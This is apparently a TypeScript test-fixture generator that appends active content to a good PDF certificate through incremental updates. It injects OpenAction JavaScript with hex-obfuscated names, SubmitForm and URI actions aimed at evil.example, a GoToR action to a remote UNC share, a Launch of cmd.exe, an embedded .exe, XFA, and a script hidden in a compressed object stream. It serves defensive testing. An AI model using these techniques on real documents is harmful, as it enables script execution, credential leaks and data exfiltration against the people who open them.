// A good certificate that also does something: what a reader of raw bytes does not see. Made by appending to the file, as PDF allows: a new
// catalogue, and what it calls, in clear or in a compressed object stream.
import { deflateSync } from 'node:zlib';

type Change = {
  /** Put into the catalogue; `#1`, `#2` … are the objects that come with it. */
  catalog: string;
  objects?: readonly string[];
  /** The objects lie in an object stream, inflated. */
  hidden?: true;
};
const EMBEDDED = '<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F #2 0 R>>>>';

export const CHANGES: Readonly<Record<string, Change>> = {
  'OpenAction JavaScript': { catalog: '/OpenAction #1 0 R', objects: ['<</S/JavaScript/JS(app.alert\\(1\\))>>'] },
  '/J#61vaScript, the name written otherwise': { catalog: '/Open#41ction #1 0 R', objects: ['<</S/J#61vaScript/J#53(app.alert\\(1\\))>>'] },
  'OpenAction to an address': { catalog: '/OpenAction #1 0 R', objects: ['<</S/URI/URI(https://evil.example/)>>'] },
  'OpenAction SubmitForm': { catalog: '/OpenAction #1 0 R', objects: ['<</S/SubmitForm/F(https://evil.example/)>>'] },
  'OpenAction GoToR': { catalog: '/OpenAction #1 0 R', objects: ['<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>'] },
  'OpenAction Launch': { catalog: '/OpenAction #1 0 R', objects: ['<</S/Launch/F(cmd.exe)>>'] },
  'additional actions of the document': { catalog: '/AA<</WC #1 0 R>>', objects: ['<</S/JavaScript/JS(1)>>'] },
  'a script in an object stream': { catalog: '/OpenAction #1 0 R', objects: ['<</S/JavaScript/JS(app.alert\\(1\\))>>'], hidden: true },
  'named scripts': { catalog: '/Names<</JavaScript<</Names[(a)#1 0 R]>>>>', objects: ['<</S/JavaScript/JS(1)>>'] },
  'an embedded file': {
    catalog: '/Names<</EmbeddedFiles<</Names[(a)#1 0 R]>>>>',
    objects: [EMBEDDED, '<</Length 2>>stream\nMZ\nendstream'],
  },
  XFA: { catalog: '/AcroForm<</Fields[]/XFA #1 0 R>>', objects: ['<</Length 5>>stream\n<xdp>\nendstream'] },
};

const last = (text: string, pattern: RegExp): RegExpExecArray => {
  const found = [...text.matchAll(pattern)].at(-1);
  if (!found) throw new Error(`the certificate has no ${pattern.source}`);
  return found as RegExpExecArray;
};

/** The certificate with the change appended. */
export function activePdf(certificate: Uint8Array, { catalog, objects = [], hidden }: Change): Buffer {
  const before = Buffer.from(certificate);
  const text = before.toString('latin1');
  const size = Number(last(text, /\/Size (\d+)/g)[1]);
  const root = Number(last(text, /\/Root (\d+) 0 R/g)[1]);
  const previous = Number(last(text, /startxref\s+(\d+)/g)[1]);
  const body = last(text, new RegExp(`(?:^|\\n)${root} 0 obj\\s*<<([\\s\\S]*?)>>\\s*endobj`, 'g'))[1]!;
  const named = (part: string): string => part.replace(/#(\d)(?= 0 R)/g, (_, n: string) => String(size + Number(n) - 1));

  let out = '\n';
  const at = new Map<number, number>();
  const write = (number: number, content: string): void => {
    at.set(number, before.length + out.length);
    out += `${number} 0 obj\n${content}\nendobj\n`;
  };
  write(root, `<<${body}${named(catalog)}>>`);
  if (!hidden) {
    for (const [index, object] of objects.entries()) write(size + index, named(object));
    const start = before.length + out.length;
    const rows = [...at].map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`).join('');
    out += `xref\n${rows}trailer\n<</Size ${size + objects.length}/Root ${root} 0 R/Prev ${previous}>>\nstartxref\n${start}\n%%EOF\n`;
    return Buffer.concat([before, Buffer.from(out, 'latin1')]);
  }
  // One object stream, and a cross-reference stream, which alone can point into it.
  const [stream, table] = [size + objects.length, size + objects.length + 1];
  const contents = objects.map(named);
  const heads = contents.map((_, index) => `${size + index} ${contents.slice(0, index).join(' ').length + (index > 0 ? 1 : 0)}`).join(' ');
  const packed = deflateSync(Buffer.from(`${heads} ${contents.join(' ')}`, 'latin1')).toString('latin1');
  write(
    stream,
    `<</Type/ObjStm/N ${contents.length}/First ${heads.length + 1}/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed}\nendstream`,
  );
  const start = before.length + out.length;
  const entry = (kind: number, where: number, index: number): string => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(kind, 0);
    bytes.writeUInt32BE(where, 1);
    bytes.writeUInt16BE(index, 5);
    return bytes.toString('latin1');
  };
  const entries = [
    ...[...at].map(([number, offset]) => [number, entry(1, offset, 0)] as const),
    ...contents.map((_, index) => [size + index, entry(2, stream, index)] as const),
    [table, entry(1, start, 0)] as const,
  ].sort((a, b) => a[0] - b[0]);
  const rows = deflateSync(Buffer.from(entries.map(([, bytes]) => bytes).join(''), 'latin1')).toString('latin1');
  const index = entries.map(([number]) => `${number} 1`).join(' ');
  out += `${table} 0 obj\n<</Type/XRef/Size ${table + 1}/Root ${root} 0 R/Prev ${previous}/W[1 4 2]/Index[${index}]/Filter/FlateDecode/Length ${rows.length}>>stream\n${rows}\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.concat([before, Buffer.from(out, 'latin1')]);
}
